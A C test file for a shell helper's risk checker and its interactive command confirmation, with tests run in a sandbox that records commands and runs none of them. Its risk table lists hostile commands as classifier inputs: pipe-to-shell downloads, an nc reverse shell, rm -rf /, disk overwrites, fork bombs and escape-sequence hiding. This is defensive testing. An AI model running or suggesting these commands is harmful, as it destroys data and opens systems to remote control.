/*
 * test_shell_helper.c — the shell helper: the local risk check (cli/risk.c)
 * case by case; `hearth cmd` and `hearth explain` against the real hearthd
 * on the bundled stories260K model, through pipes and pseudo-terminals; and
 * the bash and zsh key bindings (scripts/hearth.bash, hearth.zsh) in real
 * interactive shells on a pseudo-terminal.
 *
 * The model knows no shell, so the tests assert structure, never content:
 * the answer is JSON of the schema, --print prints its command, the rating
 * shown is the higher of the model's and the local one. Whether a command
 * runs is observed through SHELL: it points to a script that records its
 * arguments, directory and terminal into a marker file, so the model's text
 * itself never runs.
 */
#include "daemonutil.h"
#include "risk.h"
#include "testutil.h"

#include <criterion/criterion.h>
#include <errno.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ---- the risk check ----------------------------------------------------------------------- */

struct risk_case {
    const char *cmd;
    enum cli_risk level;
    const char *why; /* a part of the reason, or NULL */
};

static const struct risk_case risk_cases[] = {
    /* reading only */
    {"ls -la", CLI_RISK_SAFE, NULL},
    {"find . -type f -size +100M -mtime -7", CLI_RISK_SAFE, NULL},
    {"find . -name '*.c' -exec grep -l main {} \\;", CLI_RISK_SAFE, NULL},
    {"git status && git log --oneline | head", CLI_RISK_SAFE, NULL},
    {"tar -czf a.tgz dir", CLI_RISK_SAFE, NULL},
    {"du -sh * 2>/dev/null | sort -h", CLI_RISK_SAFE, NULL},
    {"ls > /dev/null 2>&1", CLI_RISK_SAFE, NULL},
    {"command -v rm", CLI_RISK_SAFE, NULL},
    {"crontab -l", CLI_RISK_SAFE, NULL},
    {"systemctl status ssh", CLI_RISK_SAFE, NULL},
    /* quoted, not run */
    {"echo 'rm -rf /'", CLI_RISK_SAFE, NULL},
    {"echo \"rm -rf / | sh\"", CLI_RISK_SAFE, NULL},
    {"grep -r 'mkfs' /etc", CLI_RISK_SAFE, NULL},
    {"echo $((3>2))", CLI_RISK_SAFE, NULL},
    {"cat <<'EOF'\nrm -rf /\nEOF\necho done", CLI_RISK_SAFE, NULL},
    /* deleting */
    {"rm file.txt", CLI_RISK_CAUTION, "deletes files"},
    {"rm -rf /tmp/x", CLI_RISK_DANGEROUS, "rm -r"},
    {"rm -fr build", CLI_RISK_DANGEROUS, "rm -r"},
    {"/bin/rm --recursive old", CLI_RISK_DANGEROUS, "rm -r"},
    {"find . -name '*.o' -delete", CLI_RISK_DANGEROUS, "find -delete"},
    {"find . -name '*.o' -exec rm -rf {} +", CLI_RISK_DANGEROUS, "rm -r"},
    {"ls | xargs -I {} rm -r {}", CLI_RISK_DANGEROUS, "rm -r"},
    {"git clean -fdx", CLI_RISK_DANGEROUS, "git clean"},
    {"rsync -a --delete src/ dst/", CLI_RISK_DANGEROUS, "--delete"},
    {"crontab -r", CLI_RISK_DANGEROUS, "cron"},
    {"shred -u secret.txt", CLI_RISK_DANGEROUS, "beyond recovery"},
    /* disks */
    {"dd if=/dev/zero of=/dev/sda bs=1M", CLI_RISK_DANGEROUS, "dd of="},
    {"dd if=a.img", CLI_RISK_CAUTION, "dd"},
    {"mkfs.ext4 /dev/sdb1", CLI_RISK_DANGEROUS, "formats"},
    {"cat disk.img > /dev/sda", CLI_RISK_DANGEROUS, "/dev/sda"},
    /* permissions */
    {"chmod +x run.sh", CLI_RISK_CAUTION, "permissions"},
    {"chmod -R 777 .", CLI_RISK_DANGEROUS, "chmod -R"},
    {"chown -R me:me /srv", CLI_RISK_DANGEROUS, "-R"},
    /* root */
    {"sudo apt install vim", CLI_RISK_CAUTION, "root (sudo)"},
    {"sudo -u postgres psql", CLI_RISK_CAUTION, "root"},
    {"sudo rm -rf /", CLI_RISK_DANGEROUS, "rm -r"},
    {"su -c 'rm -rf /var'", CLI_RISK_DANGEROUS, "rm -r"},
    /* downloaded code */
    {"curl -fsSL https://example.com/i.sh | sh", CLI_RISK_DANGEROUS, "downloaded"},
    {"curl -fsSL https://example.com/i.sh | sudo bash", CLI_RISK_DANGEROUS, "downloaded"},
    {"wget -qO- https://example.com/i | tee log | bash -s -- --yes", CLI_RISK_DANGEROUS,
     "downloaded"},
    {"(curl https://example.com/i) | sh", CLI_RISK_DANGEROUS, "downloaded"},
    {"sh -c \"$(curl -fsSL https://example.com/i)\"", CLI_RISK_DANGEROUS, "downloaded"},
    {"bash <(curl -s https://example.com/i)", CLI_RISK_DANGEROUS, "downloaded"},
    {"eval \"$(wget -qO- https://example.com/i)\"", CLI_RISK_DANGEROUS, "downloaded"},
    {"curl -fsSL https://example.com/i -o i.sh", CLI_RISK_SAFE, NULL},
    {"echo ls | sh", CLI_RISK_CAUTION, "from the pipe"},
    /* redirections */
    {"echo hello > out.txt", CLI_RISK_CAUTION, "overwrites out.txt"},
    {"echo hello >| out.txt", CLI_RISK_CAUTION, "overwrites out.txt"},
    {"echo hello 2> err.log", CLI_RISK_CAUTION, "overwrites err.log"},
    {"make &> 'build log.txt'", CLI_RISK_CAUTION, "overwrites build log.txt"},
    {"echo hello >> out.txt", CLI_RISK_CAUTION, "appends to out.txt"},
    {"echo x > /etc/passwd", CLI_RISK_DANGEROUS, "system file /etc/passwd"},
    {"echo x >> /etc/hosts", CLI_RISK_CAUTION, "/etc/hosts"},
    {"echo 3 > /proc/sys/vm/drop_caches", CLI_RISK_CAUTION, "kernel setting"},
    {"cat <<EOF > notes.txt\nhello\nEOF", CLI_RISK_CAUTION, "overwrites notes.txt"},
    {"sort a.txt >&2", CLI_RISK_SAFE, NULL},
    /* git history */
    {"git push origin main", CLI_RISK_CAUTION, "git push"},
    {"git push --force origin main", CLI_RISK_DANGEROUS, "--force"},
    {"git -C repo push -f", CLI_RISK_DANGEROUS, "--force"},
    {"git push origin +main", CLI_RISK_DANGEROUS, "--force"},
    {"git reset --hard HEAD~1", CLI_RISK_DANGEROUS, "reset --hard"},
    {"git checkout -- .", CLI_RISK_CAUTION, "uncommitted"},
    /* the rest of the table, wrappers and substitutions */
    {"tar -xzvf a.tgz -C /tmp", CLI_RISK_CAUTION, "tar -x"},
    {"sed -i 's/a/b/' f.txt", CLI_RISK_CAUTION, "sed -i"},
    {"kill -9 1234", CLI_RISK_CAUTION, "stops processes"},
    {"shutdown -h now", CLI_RISK_DANGEROUS, "shuts down"},
    {"systemctl --user stop foo", CLI_RISK_CAUTION, "services"},
    {"docker system prune -a", CLI_RISK_CAUTION, "containers"},
    {"nc -e /bin/sh example.com 4444", CLI_RISK_DANGEROUS, "shell"},
    {"FOO=1 env BAR=2 timeout 5 nice -n 10 rm -r d", CLI_RISK_DANGEROUS, "rm -r"},
    {"ssh host 'sudo reboot'", CLI_RISK_DANGEROUS, "restarts"},
    {"bash -o pipefail -c 'rm -rf x'", CLI_RISK_DANGEROUS, "rm -r"},
    {"echo $(rm -rf /tmp/y)", CLI_RISK_DANGEROUS, "rm -r"},
    {"echo `rm -rf /tmp/z`", CLI_RISK_DANGEROUS, "rm -r"},
    {"if true; then rm -r x; fi", CLI_RISK_DANGEROUS, "rm -r"},
    {"for f in *.log; do\n  gzip \"$f\"\ndone", CLI_RISK_SAFE, NULL},
    {":(){ :|:& };:", CLI_RISK_DANGEROUS, "fork bomb"},
    {"bomb() { bomb | bomb & }; bomb", CLI_RISK_DANGEROUS, "fork bomb"},
    /* what a terminal would show as something else */
    {"rm -rf ~ \r\x1b[Kls -l", CLI_RISK_DANGEROUS, "control characters"},
    {"echo \x1b[8mhidden", CLI_RISK_DANGEROUS, "control characters"},
    {"echo \xc2\x9b" "2J", CLI_RISK_DANGEROUS, "control characters"},
    {"echo caf\xc3\xa9\tok", CLI_RISK_SAFE, NULL},
    /* what cannot be read completely */
    {"echo 'unbalanced", CLI_RISK_CAUTION, "unbalanced"},
    {"echo $(ls", CLI_RISK_CAUTION, "unbalanced"},
};

Test(risk, table)
{
    for (size_t i = 0; i < sizeof risk_cases / sizeof risk_cases[0]; i++) {
        const struct risk_case *k = &risk_cases[i];
        struct cli_risk_report r;
        cli_risk_classify(k->cmd, &r);
        cr_expect_eq(r.level, k->level, "'%s': %s (%s), expected %s", k->cmd,
                     cli_risk_name(r.level), r.why, cli_risk_name(k->level));
        if (k->level == CLI_RISK_SAFE)
            cr_expect_str_empty(r.why, "'%s': %s", k->cmd, r.why);
        if (k->why)
            cr_expect(strstr(r.why, k->why), "'%s': reason '%s' lacks '%s'", k->cmd, r.why,
                      k->why);
    }
}

/* Reasons of one level are all given, each once. */
Test(risk, reasons_joined)
{
    struct cli_risk_report r;
    cli_risk_classify("rm a > x; rm b > y", &r);
    cr_assert_eq(r.level, CLI_RISK_CAUTION);
    cr_assert(strstr(r.why, "deletes files") && strstr(r.why, "overwrites x") &&
                  strstr(r.why, "overwrites y"),
              "%s", r.why);
    const char *first = strstr(r.why, "deletes files");
    cr_assert(!strstr(first + 1, "deletes files"), "%s", r.why);
    /* a higher level replaces the reasons of a lower one */
    cli_risk_classify("sudo ls; rm -r x", &r);
    cr_assert_eq(r.level, CLI_RISK_DANGEROUS);
    cr_assert(!strstr(r.why, "root"), "%s", r.why);
}

Test(risk, names)
{
    for (int l = CLI_RISK_SAFE; l <= CLI_RISK_DANGEROUS; l++)
        cr_assert_eq(cli_risk_parse(cli_risk_name((enum cli_risk)l)), l);
    cr_assert_eq(cli_risk_parse("harmless"), -EINVAL);
    cr_assert_eq(cli_risk_parse(NULL), -EINVAL);
    cr_assert(CLI_RISK_SAFE < CLI_RISK_CAUTION && CLI_RISK_CAUTION < CLI_RISK_DANGEROUS);
}

/* Hostile lines: deep nesting, huge lines, bytes of every value. Nothing
 * crashes (ASan watches), and what is not read completely is not safe. */
Test(risk, hostile_input)
{
    size_t n = 4000;
    char *s = malloc(n * 8 + 16);
    cr_assert(s);
    s[0] = '\0';
    for (size_t i = 0; i < n; i++)
        strcat(s, "$(echo ");
    struct cli_risk_report r;
    cli_risk_classify(s, &r);
    cr_assert_geq(r.level, CLI_RISK_CAUTION, "%s", r.why);

    /* balanced, but nested deeper than the check follows */
    strcpy(s, "echo ");
    for (size_t i = 0; i < 20; i++)
        strcat(s, "$(echo ");
    strcat(s, "x");
    for (size_t i = 0; i < 20; i++)
        strcat(s, ")");
    cli_risk_classify(s, &r);
    cr_assert_eq(r.level, CLI_RISK_CAUTION, "%s", r.why);
    cr_assert(strstr(r.why, "deeper"), "%s", r.why);

    size_t big = 1 << 20;
    char *line = malloc(big + 1);
    cr_assert(line);
    for (size_t i = 0; i < big; i++)
        line[i] = "ab |;&<>'\"`$(){}\\\n#"[i % 20];
    line[big] = '\0';
    cli_risk_classify(line, &r);
    cr_assert_geq(r.level, CLI_RISK_SAFE);
    srand(7);
    for (int t = 0; t < 2000; t++) {
        size_t len = (size_t)(rand() % 64);
        for (size_t i = 0; i < len; i++)
            line[i] = (char)(1 + rand() % 255);
        line[len] = '\0';
        cli_risk_classify(line, &r);
        cr_assert(r.level <= CLI_RISK_DANGEROUS);
        cr_assert_lt(strlen(r.why), sizeof r.why);
    }
    free(line);
    free(s);
}

/* ---- a sandbox: a directory with a SHELL that records and runs nothing --------------------- */

struct sandbox {
    char dir[64];
    char shell[128];  /* the SHELL script */
    char marker[128]; /* written by it when it runs */
    char stub[128];   /* a stand-in hearth for the key bindings */
    char args[128];   /* the stub's arguments */
};

static void write_script(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    cr_assert(f, "%s: %s", path, strerror(errno));
    fputs(text, f);
    fclose(f);
    cr_assert_eq(chmod(path, 0755), 0);
}

static void sandbox_new(struct sandbox *sb)
{
    snprintf(sb->dir, sizeof sb->dir, "/tmp/hearth-shell-XXXXXX");
    cr_assert(mkdtemp(sb->dir), "mkdtemp: %s", strerror(errno));
    char *real = realpath(sb->dir, NULL);
    cr_assert(real);
    snprintf(sb->dir, sizeof sb->dir, "%s", real);
    free(real);
    snprintf(sb->shell, sizeof sb->shell, "%s/shell", sb->dir);
    snprintf(sb->marker, sizeof sb->marker, "%s/marker", sb->dir);
    snprintf(sb->stub, sizeof sb->stub, "%s/stub-hearth", sb->dir);
    snprintf(sb->args, sizeof sb->args, "%s/stub-args", sb->dir);
    char text[1024];
    snprintf(text, sizeof text,
             "#!/bin/sh\n"
             "{ printf 'args:%%s\\n' \"$*\"; pwd;"
             " if [ -t 0 ]; then echo tty; else echo notty; fi; } > '%s'\n",
             sb->marker);
    write_script(sb->shell, text);
    /* the stub: records its arguments; proposes a command whose output differs
     * from its text (so the test sees it ran), or fails like hearth without a
     * daemon when the line asks for that */
    snprintf(text, sizeof text,
             "#!/bin/sh\n"
             "printf '%%s\\n' \"$*\" > '%s'\n"
             "case \"$*\" in *unchanged*) echo 'hearth: error: no daemon' >&2; exit 1;; esac\n"
             "echo 'echo h\xc3\xa9-stub-$((6*7))'\n",
             sb->args);
    write_script(sb->stub, text);
}

static void sandbox_free(struct sandbox *sb)
{
    unlink(sb->shell);
    unlink(sb->marker);
    unlink(sb->stub);
    unlink(sb->args);
    cr_assert_eq(rmdir(sb->dir), 0, "rmdir %s: %s", sb->dir, strerror(errno));
}

static bool exists(const char *path)
{
    struct stat st;
    return stat(path, &st) == 0;
}

/* ---- pseudo-terminals --------------------------------------------------------------------- */

#define WAIT_MS 60000 /* a bound for a stuck child, not a timing assertion */

struct pty {
    pid_t pid;
    int fd;
    char buf[1 << 16];
    size_t len, seen; /* seen: where the next pty_expect starts looking */
    bool eof;
};

static long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Starts argv on a new terminal, in `cwd`, with env: pairs NAME, VALUE
 * (VALUE NULL: unset), NULL-terminated. */
static void pty_start(struct pty *p, char *const argv[], const char *cwd, const char *const *env)
{
    memset(p, 0, sizeof *p);
    struct winsize ws = {.ws_row = 40, .ws_col = 200};
    p->pid = forkpty(&p->fd, NULL, NULL, &ws);
    cr_assert(p->pid >= 0, "forkpty: %s", strerror(errno));
    if (p->pid == 0) {
        if (cwd && (chdir(cwd) < 0 || setenv("PWD", cwd, 1) < 0))
            _exit(126);
        for (int i = 0; env && env[i]; i += 2) {
            if (env[i + 1])
                setenv(env[i], env[i + 1], 1);
            else
                unsetenv(env[i]);
        }
        execv(argv[0], argv);
        _exit(127);
    }
}

static void pty_read(struct pty *p, int timeout_ms)
{
    struct pollfd pf = {p->fd, POLLIN, 0};
    if (poll(&pf, 1, timeout_ms) <= 0)
        return;
    ssize_t r = read(p->fd, p->buf + p->len, sizeof p->buf - 1 - p->len);
    if (r > 0) {
        p->len += (size_t)r;
        p->buf[p->len] = '\0';
    } else if (!(r < 0 && errno == EINTR)) {
        p->eof = true; /* EIO: the child and everything it started are gone */
    }
}

/* Waits until `pat` appears after what earlier calls found. */
static bool pty_expect(struct pty *p, const char *pat)
{
    long t0 = now_ms();
    for (;;) {
        char *hit = strstr(p->buf + p->seen, pat);
        if (hit) {
            p->seen = (size_t)(hit - p->buf) + strlen(pat);
            return true;
        }
        if (p->eof || now_ms() - t0 > WAIT_MS)
            return false;
        pty_read(p, 1000);
    }
}

static void pty_send(struct pty *p, const char *s)
{
    size_t n = strlen(s);
    cr_assert_eq(write(p->fd, s, n), (ssize_t)n);
}

/* Reads to the end; returns the exit status (128+N for a signal). When
 * `respond_to` appears, `response` is typed once. */
static int pty_finish(struct pty *p, const char *respond_to, const char *response)
{
    long t0 = now_ms();
    bool answered = false;
    while (!p->eof && now_ms() - t0 < WAIT_MS) {
        pty_read(p, 1000);
        if (respond_to && !answered && strstr(p->buf + p->seen, respond_to)) {
            pty_send(p, response);
            answered = true;
        }
    }
    if (!p->eof)
        kill(p->pid, SIGKILL);
    int st = 0;
    waitpid(p->pid, &st, 0);
    close(p->fd);
    cr_assert(p->eof, "the child did not finish: %s", p->buf);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* ---- hearth cmd and hearth explain against hearthd --------------------------------------- */

#define TASK "find files over 100MB changed this week"

/* hearth cmd --json with the options every test uses (greedy, so --print and
 * --json see the same answer); returns the parsed document. */
static json_t *cmd_json(const char *socket)
{
    char *out, *err;
    int st = tu_hearth(&out, &err, "cmd", "--socket", socket, "--temp", "0", "--json", TASK,
                       NULL);
    cr_assert_eq(st, 0, "%s", err);
    json_error_t je;
    json_t *doc = json_loads(out, 0, &je);
    cr_assert(doc, "not JSON: %s (%s)", out, je.text);
    free(out);
    free(err);
    return doc;
}

static const char *str_of(json_t *doc, const char *key)
{
    const char *s = json_string_value(json_object_get(doc, key));
    cr_assert(s, "no string '%s'", key);
    return s;
}

Test(shell, print_is_the_command, .timeout = 300)
{
    struct du_daemon d;
    du_start(&d, NULL, NULL);
    json_t *doc = cmd_json(d.socket);
    const char *cmd = str_of(doc, "command");
    cr_assert(cmd[0] && !strchr(" \t\n", cmd[0]), "command '%s' is empty or not trimmed", cmd);
    str_of(doc, "explanation");
    str_of(doc, "risk_note");
    int shown = cli_risk_parse(str_of(doc, "risk"));
    int model = cli_risk_parse(str_of(doc, "model_risk"));
    int local = cli_risk_parse(str_of(doc, "local_risk"));
    cr_assert(shown >= 0 && model >= 0 && local >= 0);
    /* the local rating is the check of the command; the one shown is the higher */
    struct cli_risk_report r;
    cli_risk_classify(cmd, &r);
    cr_assert_eq(local, (int)r.level, "'%s'", cmd);
    cr_assert_str_eq(str_of(doc, "local_why"), r.why);
    cr_assert_eq(shown, model > local ? model : local);

    char *out, *err;
    int st = tu_hearth(&out, &err, "cmd", "--socket", d.socket, "--temp", "0", "--print", TASK,
                       NULL);
    cr_assert_eq(st, 0, "%s", err);
    char *want = malloc(strlen(cmd) + 2);
    sprintf(want, "%s\n", cmd);
    cr_assert_str_eq(out, want);
    /* the rating goes to stderr when it is not safe, never to stdout */
    if (shown > CLI_RISK_SAFE)
        cr_assert(strstr(err, "risk: ") && strstr(err, cli_risk_name((enum cli_risk)shown)),
                  "%s", err);
    free(want);
    free(out);
    free(err);
    json_decref(doc);
    du_stop(&d);
}

/* Without a terminal on stdin nothing runs, whatever stdin says. */
Test(shell, no_terminal_never_runs, .timeout = 300)
{
    struct du_daemon d;
    struct sandbox sb;
    du_start(&d, NULL, NULL);
    sandbox_new(&sb);
    cr_assert_eq(setenv("SHELL", sb.shell, 1), 0);
    const char *modes[] = {NULL, "--yes", "--print", "--json"};
    for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++) {
        char *argv[12];
        int n = 0;
        argv[n++] = (char *)tu_hearth_bin();
        argv[n++] = "cmd";
        argv[n++] = "--socket";
        argv[n++] = d.socket;
        argv[n++] = "--temp";
        argv[n++] = "0";
        if (modes[i])
            argv[n++] = (char *)modes[i];
        argv[n++] = TASK;
        argv[n] = NULL;
        char *out, *err;
        int st = du_run_input(argv, "e\nyes\ne\n", &out, &err);
        cr_assert_eq(st, 0, "%s: %s", modes[i] ? modes[i] : "plain", err);
        cr_assert_gt(strlen(out), 1, "%s", err);
        cr_assert(!exists(sb.marker), "%s: the command ran without a terminal",
                  modes[i] ? modes[i] : "plain");
        if (!modes[i] || !strcmp(modes[i], "--yes")) {
            cr_assert(!strncmp(out, "$ ", 2) && strstr(out, "risk: "), "%s", out);
            cr_assert(strstr(err, "not run"), "%s", err);
        }
        free(out);
        free(err);
    }
    sandbox_free(&sb);
    du_stop(&d);
}

/* The first line of the command as shown ("$ COMMAND\r\n" on the terminal). */
static char *shown_command(const struct pty *p)
{
    const char *s = strstr(p->buf, "$ ");
    cr_assert(s, "no command shown: %s", p->buf);
    s += 2;
    return strndup(s, strcspn(s, "\r\n"));
}

static void start_cmd(struct pty *p, const struct du_daemon *d, const struct sandbox *sb,
                      const char *extra)
{
    char *argv[] = {(char *)tu_hearth_bin(), "cmd", "--socket", (char *)d->socket, "--temp", "0",
                    (char *)(extra ? extra : "--"), TASK, NULL};
    const char *env[] = {"SHELL", sb->shell, "NO_COLOR", "1", "TERM", "xterm", NULL};
    pty_start(p, argv, sb->dir, env);
}

Test(shell, interactive, .timeout = 600)
{
    struct du_daemon d;
    struct sandbox sb;
    du_start(&d, NULL, NULL);
    sandbox_new(&sb);
    static struct pty p; /* 64 KiB: not on the stack */

    /* [a]bort: nothing runs, status 1 */
    start_cmd(&p, &d, &sb, NULL);
    cr_assert(pty_expect(&p, "[e]xecute, [d]escribe, [a]bort? "), "%s", p.buf);
    pty_send(&p, "a");
    int st = pty_finish(&p, NULL, NULL);
    cr_assert_eq(st, 1, "%s", p.buf);
    cr_assert(strstr(p.buf, "risk: ") && strstr(p.buf, "(not run)"), "%s", p.buf);
    cr_assert(!exists(sb.marker), "aborted, yet it ran: %s", p.buf);

    /* [d]escribe: an explanation streams, the question comes again; then Ctrl-D */
    start_cmd(&p, &d, &sb, NULL);
    cr_assert(pty_expect(&p, "[a]bort? "), "%s", p.buf);
    size_t before = p.seen;
    pty_send(&p, "d");
    cr_assert(pty_expect(&p, "[a]bort? "), "no second question: %s", p.buf);
    cr_assert_gt(p.seen - before, strlen("d\r\n[e]xecute, [d]escribe, [a]bort? ") + 1,
                 "no explanation: %s", p.buf + before);
    pty_send(&p, "\x04");
    st = pty_finish(&p, NULL, NULL);
    cr_assert_eq(st, 1, "%s", p.buf);
    cr_assert(!exists(sb.marker), "%s", p.buf);

    /* any other key asks again; [e]xecute runs it through $SHELL -c, here, on the
     * terminal (a command rated dangerous also needs "yes") */
    start_cmd(&p, &d, &sb, NULL);
    cr_assert(pty_expect(&p, "[a]bort? "), "%s", p.buf);
    pty_send(&p, "z");
    cr_assert(pty_expect(&p, "[a]bort? "), "%s", p.buf);
    cr_assert(!exists(sb.marker));
    pty_send(&p, "e");
    st = pty_finish(&p, "Type yes", "yes\n");
    cr_assert_eq(st, 0, "%s", p.buf);
    cr_assert(exists(sb.marker), "it did not run: %s", p.buf);
    char *cmd = shown_command(&p);
    char *rec = tu_read_file(sb.marker, NULL);
    cr_assert(rec);
    char *want = malloc(strlen(cmd) + strlen(sb.dir) + 64);
    sprintf(want, "args:-c %s", cmd);
    cr_assert(!strncmp(rec, want, strlen(want)), "recorded '%s', shown '%s'", rec, cmd);
    sprintf(want, "\n%s\ntty\n", sb.dir);
    cr_assert(strstr(rec, want), "directory or terminal: '%s'", rec);
    free(want);
    free(rec);
    free(cmd);
    unlink(sb.marker);

    /* --yes never runs: no question, and keys typed do nothing */
    start_cmd(&p, &d, &sb, "--yes");
    pty_send(&p, "e");
    st = pty_finish(&p, NULL, NULL);
    cr_assert_eq(st, 0, "%s", p.buf);
    cr_assert(!strstr(p.buf, "[a]bort?") && strstr(p.buf, "not run"), "%s", p.buf);
    cr_assert(!exists(sb.marker), "--yes ran it: %s", p.buf);

    sandbox_free(&sb);
    du_stop(&d);
}

Test(shell, explain_streams, .timeout = 300)
{
    struct du_daemon d;
    du_start(&d, NULL, NULL);
    char *out, *err;
    /* words after the options need no quotes; -n bounds the tiny model */
    int st = tu_hearth(&out, &err, "explain", "--socket", d.socket, "-n", "40", "--seed", "3",
                       "-v", "rm", "-rf", "/tmp/x", NULL);
    cr_assert_eq(st, 0, "%s", err);
    const char *check = strstr(out, "hearth's check: dangerous");
    cr_assert(check && strstr(check, "rm -r"), "no local check: %s", out);
    cr_assert_gt(check - out, 1, "no explanation before the check: %s", out);
    const char *gen = strstr(err, "prompt ");
    long generated = gen ? strtol(strstr(gen, ", ") + 2, NULL, 10) : 0;
    cr_assert_gt(generated, 0, "%s", err);
    free(out);
    free(err);
    /* a safe command: the explanation only */
    st = tu_hearth(&out, &err, "explain", "--socket", d.socket, "-n", "16", "ls -la", NULL);
    cr_assert_eq(st, 0, "%s", err);
    cr_assert(!strstr(out, "hearth's check"), "%s", out);
    cr_assert_gt(strlen(out), 1);
    free(out);
    free(err);
    du_stop(&d);
}

Test(shell, errors_are_one_line, .timeout = 60)
{
    char *out, *err;
    int st = tu_hearth(&out, &err, "cmd", "--socket", "/nonexistent/hearth.sock", TASK, NULL);
    cr_assert_eq(st, 1);
    tu_assert_one_line_error(err, "is hearthd running");
    cr_assert_str_empty(out);
    free(out);
    free(err);
    st = tu_hearth(&out, &err, "explain", "--socket", "/nonexistent/hearth.sock", "ls", NULL);
    cr_assert_eq(st, 1);
    tu_assert_one_line_error(err, "is hearthd running");
    free(out);
    free(err);
    st = tu_hearth(&out, &err, "cmd", "--print", NULL);
    cr_assert_eq(st, 2);
    tu_assert_one_line_error(err, "missing the task");
    free(out);
    free(err);
    st = tu_hearth(&out, &err, "explain", "--", " ", NULL);
    cr_assert_eq(st, 2);
    tu_assert_one_line_error(err, "missing the command");
    free(out);
    free(err);
    st = tu_hearth(&out, &err, "explain", "--print", "ls", NULL);
    cr_assert_eq(st, 2);
    tu_assert_one_line_error(err, "--print");
    free(out);
    free(err);
}

/* ---- the key bindings --------------------------------------------------------------------- */

/* An interactive shell on a terminal with the binding sourced: a line in
 * words, Ctrl-X Ctrl-A, then "X" and Enter. The line must have become the
 * stub's command with the cursor at its end (so "X" lands after it), and
 * run; a failing hearth leaves the line as it was. */
static void key_binding(char *const shell_argv[], const char *script)
{
    struct sandbox sb;
    sandbox_new(&sb);
    const char *env[] = {"HEARTH_BIN", sb.stub, "PS1", "PROMPT> ", "PROMPT", "PROMPT> ",
                         "TERM", "xterm", "LANG",
                         "C.UTF-8", "LC_ALL", "C.UTF-8", "INPUTRC", "/dev/null", "HISTFILE",
                         "/dev/null", "HEARTH_KEY", NULL, NULL};
    static struct pty p;
    pty_start(&p, shell_argv, sb.dir, env);
    cr_assert(pty_expect(&p, "PROMPT> "), "%s", p.buf);
    char line[512];
    snprintf(line, sizeof line, "source '%s/scripts/%s'\n", HEARTH_SOURCE_ROOT, script);
    pty_send(&p, line);
    cr_assert(pty_expect(&p, "PROMPT> "), "%s", p.buf);

    pty_send(&p, "list big files\x18\x01X\n");
    cr_assert(pty_expect(&p, "h\xc3\xa9-stub-42X"), "the proposed command did not run: %s",
              p.buf);
    char *args = tu_read_file(sb.args, NULL);
    cr_assert(args);
    cr_assert_str_eq(args, "cmd --print -- list big files\n");
    free(args);
    cr_assert(pty_expect(&p, "PROMPT> "), "%s", p.buf);

    pty_send(&p, "echo unchanged-$((2+3))\x18\x01\n");
    cr_assert(pty_expect(&p, "no daemon"), "%s", p.buf);
    cr_assert(pty_expect(&p, "unchanged-5"), "the line changed: %s", p.buf);
    cr_assert(pty_expect(&p, "PROMPT> "), "%s", p.buf);
    pty_send(&p, "exit\n");
    cr_assert_eq(pty_finish(&p, NULL, NULL), 0, "%s", p.buf);
    sandbox_free(&sb);
}

Test(keys, bash, .timeout = 120)
{
    char *argv[] = {"/bin/bash", "--norc", "--noprofile", "-i", NULL};
    if (!exists(argv[0]))
        cr_skip_test("bash is not installed");
    key_binding(argv, "hearth.bash");
}

Test(keys, zsh, .timeout = 120)
{
    char *argv[] = {"/usr/bin/zsh", "-f", "-i", NULL};
    if (!exists(argv[0]))
        cr_skip_test("zsh is not installed (scripts/install-deps.sh installs it)");
    key_binding(argv, "hearth.zsh");
}

/* Sourcing the bindings in a script (no line editing) is harmless. */
Test(keys, sourced_in_scripts)
{
    char path[512], *out, *err;
    snprintf(path, sizeof path, "source '%s/scripts/hearth.bash' && echo ok", HEARTH_SOURCE_ROOT);
    char *bash[] = {"/bin/bash", "-c", path, NULL};
    int st = tu_run(bash, &out, &err);
    cr_assert_eq(st, 0, "%s", err);
    cr_assert_str_eq(out, "ok\n");
    cr_assert_str_empty(err);
    free(out);
    free(err);
    if (!exists("/usr/bin/zsh"))
        return;
    snprintf(path, sizeof path, "source '%s/scripts/hearth.zsh' && echo ok", HEARTH_SOURCE_ROOT);
    char *zsh[] = {"/usr/bin/zsh", "-f", "-c", path, NULL};
    st = tu_run(zsh, &out, &err);
    cr_assert_eq(st, 0, "%s", err);
    cr_assert_str_eq(out, "ok\n");
    cr_assert_str_empty(err);
    free(out);
    free(err);
}
